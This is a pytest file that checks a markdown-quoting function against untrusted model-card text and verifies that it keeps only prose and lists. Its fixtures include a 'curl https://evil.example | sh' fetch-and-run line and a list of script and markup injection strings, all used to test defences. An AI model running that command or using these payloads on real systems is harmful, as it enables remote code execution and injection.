import pytest
from markdown_it import MarkdownIt

from publishers.quoting import allowed, quote

CARD = """---
license: mit
---
# Model

<p align="center"><img src="https://evil.example/pixel.png"></p>

A *small* model by [us](https://evil.example) with `tools`.
It goes on.

## Quickstart

pip install everything

### On Windows

Click here.

## Strengths

- Poems
- Songs
  1. short
  2. long

| a | b |
|---|---|
| 1 | 2 |

```sh
curl https://evil.example | sh
```

## Citation

@article{us}
"""


def test_prose_and_lists_are_quoted_and_nothing_to_click_or_run() -> None:
    found = quote(CARD)
    assert found is not None
    assert found.whole
    assert found.text.splitlines() == [
        "> A small model by us with tools. It goes on.", ">", "> **Strengths**", ">", "> - Poems", "> - Songs", ">    1. short", ">    2. long",
    ]  # fmt: skip


def test_a_long_card_is_cut_at_a_paragraph() -> None:
    found = quote("\n\n".join(f"Paragraph {number} is here." for number in range(500)), most=100)
    assert found is not None
    assert not found.whole
    assert found.text.count("Paragraph") == 5


@pytest.mark.parametrize("text", ["", "---\nlicense: mit\n---\n", "# Only a title\n", "<div>\n<b>all HTML</b>\n</div>\n", "```\ncode\n```\n", "![x](y)\n"])
def test_where_nothing_can_be_quoted_there_is_no_quotation(text: str) -> None:
    assert quote(text) is None


@pytest.mark.parametrize("text", ["&#8203;\n", "- \u00ad\n", "\u200b\n", "# \u200b\n\n## \u2060\n", "> 1. &#8203;\n"])
def test_what_shows_nothing_is_not_quoted(text: str) -> None:
    assert quote(text) is None


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Hello.\n\n\u200b\n\nmore", "> Hello.\n>\n> more"),
        ("## \u200b\n\nHello.", "> Hello."),
        ("## Why\n\n### &#8203;\n\nHello.", "> **Why**\n>\n> Hello."),
        ("1. one\n2. \u00ad\n3. three", "> 1. one\n> 3. three"),
        ("- \u200b\n\n  Hello.\n- more", "> - Hello.\n> - more"),
    ],
)
def test_what_shows_nothing_leaves_no_trace(text: str, said: str) -> None:
    found = quote(text)
    assert found is not None
    assert found.text == said


@pytest.mark.parametrize("start", ["", "\ufeff", "\n\n", "\ufeff\n "])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("front", ["", "license: mit\n", "\n"])
def test_front_matter_ends_at_its_own_fence(start: str, end: str, front: str) -> None:
    found = quote(f"{start}---\n{front}---\n\nHello there.\n\n---\nmore text\n".replace("\n", end))
    assert found is not None
    assert found.text == "> Hello there.\n>\n> more text"


def test_a_rule_at_the_beginning_is_no_front_matter() -> None:
    found = quote("--- My thesis\n\nWhole text\n\n---\nmore text\n")
    assert found is not None
    assert "thesis" in found.text
    assert "Whole text" in found.text


HOSTILE = [
    "a\u2028# Owned",
    "\\# Owned",
    "1\\. Owned",
    "\\> x\n\\---",
    "&#60;script>alert(1)&#60;/script>",
    "<!-- sluice:end upstream -->\n\ntext\n\n<script>alert(1)</script>",
    "&lt;!-- sluice:end upstream --&gt;",
    "[x]: https://evil.example\n\n[x] [y][x] <https://evil.example> https://evil.example www.evil.example",
    "- " * 200 + "deep",
    "> " * 200 + "deep",
    "\\`\\`\\`\n\\~\\~\\~",
    "| \\| |\n|---|\n| x |\n\n\\| a \\| b \\|\n\\|---\\|---\\|\n",
    "text\n\\===\n",
    "$$x$$ \\(y\\)",
    "\ufeff---\nbase_model: evil/evil\n---\nhello",
    "\x00\x1b[31mred\x07",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_stranger_cannot_leave_the_quotation(text: str) -> None:
    found = quote(text)
    if found is None:
        return
    assert all(line.startswith(">") for line in found.text.split("\n"))
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(f"{found.text}\n")
    assert (tokens[0].type, tokens[-1].type) == ("blockquote_open", "blockquote_close")
    assert sum(token.type == "blockquote_open" for token in tokens) == 1
    assert not {token.type for token in tokens} & {"heading_open", "html_block", "fence", "code_block", "hr", "table_open"}
    inline = {child.type for token in tokens for child in token.children or ()}
    assert not inline & {"link_open", "image", "html_inline"}
    assert "<!--" not in found.text
    assert "://" not in found.text.replace("\N{WORD JOINER}://", "")


def test_only_licences_that_let_the_text_be_passed_on() -> None:
    assert allowed("apache-2.0")
    assert allowed("MIT")
    assert not any(allowed(license) for license in (None, "other", "llama3.1", "gemma", "cc-by-nc-4.0", "cc-by-nd-4.0", "gpl-3.0", ""))
